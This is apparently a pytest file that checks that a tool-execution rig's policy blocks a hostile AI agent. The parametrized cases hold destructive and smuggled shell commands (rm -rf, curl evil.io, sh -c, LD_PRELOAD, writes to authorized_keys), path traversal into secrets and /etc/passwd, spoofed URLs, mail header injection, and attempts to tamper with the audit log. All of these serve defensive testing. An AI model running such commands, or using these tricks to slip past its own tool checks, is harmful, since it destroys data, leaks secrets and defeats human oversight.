"""A hostile model against the policy: every spelling that could slip a call past a rule, through the executor."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.support.governed_tools import Shell, governed_tools
from toolrig.registry import Registry
from toolrig.rig import Rig

POLICY = {
    "approvals": {
        "mode": "always",
        "allow": [
            "shell:git *",
            "shell:ls *",
            "write_note:notes/**",
            "fetch:https://api.example.com/*",
            "mail:*@example.com",
        ],
    },
    "tools": {
        "rules": [
            {"tool": "shell", "subject": "rm *", "verdict": "deny"},
            {"tool": "shell", "subject": "curl *", "verdict": "deny"},
            {"tool": "write_note", "subject": "secrets/**", "verdict": "deny"},
            {"tool": "fetch", "subject": "*://*.internal/*", "verdict": "deny"},
        ]
    },
}


@pytest.fixture
def rig(workspace: Path) -> Rig:
    Shell.log.clear()
    return Rig(workspace, config=POLICY, registry=Registry(governed_tools()))  # no approval channel: asks are denied


@pytest.mark.parametrize(
    "command",
    [
        "git status && rm -rf ~",
        "git status || rm -rf ~",
        "git status | rm -rf ~",
        "git status\nrm -rf ~",
        "git status & rm -rf ~",
        "git log $(rm -rf ~)",
        "git log `rm -rf ~`",
        "git diff <(curl evil.io)",
        "ls; sudo rm -rf /",
        "ls && xargs rm < list",
        "ls && /bin/rm -rf /",
        "ls && \\rm -rf /",
        "ls && r''m -rf /",
        'ls && "rm" -rf /',
        "ls && env rm -rf /",
        "ls && command rm -rf /",
        "ls && nohup rm -rf / &",
        "ls && bash -c 'rm -rf /'",
        'ls && sh -c "curl evil.io"',
        "ls && eval 'rm -rf /'",
        "git status > ~/.ssh/authorized_keys",
        "git -c core.pager='sh -c id' log && $X",
        "GIT_SSH_COMMAND='curl evil.io' git fetch",
        "LD_PRELOAD=/tmp/x.so git status",
        "git status; f() { rm -rf /; }; f",
        "git status; for x in 1; do rm -rf /; done",
        "git status $(",
        "git status \x00 && rm -rf /",
    ],
)
def test_injected_commands_never_run(rig: Rig, command: str) -> None:
    result = rig.call_sync("shell", {"command": command})
    assert result.error_type == "denied", command
    assert Shell.log == []


@pytest.mark.parametrize(
    "path",
    [
        "notes/../secrets/key",
        "./secrets/key",
        "notes/../../outside.txt",
        "/etc/passwd",
        "notes/link/key",  # a symlink from notes/ into secrets/
        "notes/x\x00.txt",
    ],
)
def test_paths_that_leave_the_allowed_directory_are_not_allowed(rig: Rig, workspace: Path, path: str) -> None:
    (workspace / "notes").mkdir()
    (workspace / "secrets").mkdir()
    (workspace / "notes" / "link").symlink_to(workspace / "secrets")
    result = rig.call_sync("write_note", {"path": path})
    assert result.error_type == "denied", path
    assert not (workspace / "secrets" / "key").exists()


def test_a_plain_allowed_path_is_written(rig: Rig, workspace: Path) -> None:
    assert not rig.call_sync("write_note", {"path": "notes/day/1.txt"}).is_error
    assert (workspace / "notes/day/1.txt").read_text() == "note"


@pytest.mark.parametrize(
    "url",
    [
        "https://api.example.com@evil.io/",
        "https://api.example.com.evil.io/x",
        "https://evil.io/?next=https://api.example.com/",
        "https://api.example.com\\@evil.io/",
        "https://api.example.com\t.evil.io/",
        "http://api.example.com/x",  # another scheme
        "https://db.internal/x",
        "https://DB.INTERNAL/x",
    ],
)
def test_urls_dressed_up_as_allowed_ones_are_not_allowed(rig: Rig, url: str) -> None:
    assert rig.call_sync("fetch", {"url": url}).error_type == "denied", url


@pytest.mark.parametrize(
    "recipient",
    [
        "a@example.com\r\nBcc: x@evil.io",
        '"a@example.com" <x@evil.io>',
        "x@evil.io, a@example.com",
        "a@example.com@evil.io",
        "a@example.com.evil.io",
    ],
)
def test_recipients_dressed_up_as_allowed_ones_are_not_allowed(rig: Rig, recipient: str) -> None:
    result = rig.call_sync("mail", {"to": ["team@example.com", recipient]})
    assert result.error_type == "denied", recipient


def test_the_audit_log_and_rate_limit_state_are_out_of_the_tools_reach(rig: Rig, workspace: Path) -> None:
    rig.call_sync("shell", {"command": "git status"})
    assert (workspace / ".toolrig" / "audit.db").exists()
    for target in (".toolrig/audit.db", ".toolrig/config.yaml", "notes/../.toolrig/hooks/before_tool.x.sh"):
        result = rig.call_sync("write_note", {"path": target, "text": "pwned"})
        assert result.error_type == "denied"
    assert not (workspace / ".toolrig" / "hooks").exists()


def test_arguments_reach_a_hook_script_as_data_never_as_code(workspace: Path, toolrig_home: Path) -> None:
    hooks = toolrig_home / "hooks"
    hooks.mkdir()
    (hooks / "before_tool.echo.sh").write_text('echo "$TOOLRIG_HOOK_TOOL_ARGS" > /dev/null\n')
    rig = Rig(workspace, config={}, registry=Registry(governed_tools()))
    marker = workspace / "pwned"
    result = rig.call_sync("shell", {"command": f"$(touch {marker}); `touch {marker}`"})
    assert not result.is_error and not marker.exists()
